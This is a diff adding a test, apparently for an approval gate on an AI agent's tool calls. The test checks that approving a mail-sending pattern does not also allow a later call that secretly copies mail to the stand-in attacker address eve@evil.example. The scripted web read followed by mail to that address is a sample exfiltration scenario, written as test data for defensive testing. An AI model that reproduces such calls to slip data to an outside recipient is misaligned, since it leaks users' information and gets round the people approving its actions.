@@ -122,6 +122,19 @@ describe('the answer to a question about trust', () => {
     expect(asked(next).at(-1)?.context).toMatchObject({ args: { to: 'eve@evil.example' } });
   });
 
+  it('does not allow one more recipient than the pattern has', async () => {
+    const { house, id } = await run([
+      [act('r', 'web.read')],
+      send('a', 'ann@home.example', 'one'),
+      [act('b', 'mail.send', { to: 'ann@home.example', cc: 'eve@evil.example' })],
+      END,
+    ]);
+    await house.answer(id, 'q1', 'approve_pattern');
+    const next = await house.drive(id);
+    expect(sent(house)).toBe(1);
+    expect(asked(next).at(-1)?.context).toMatchObject({ args: { cc: 'eve@evil.example' } });
+  });
+
   it('can refuse all calls of the tool that wait: a flood of calls is one question', async () => {
     const flood = Array.from({ length: 90 }, (_, index) =>
       act(`x${index}`, 'mail.send', { to: `eve${index}` }),
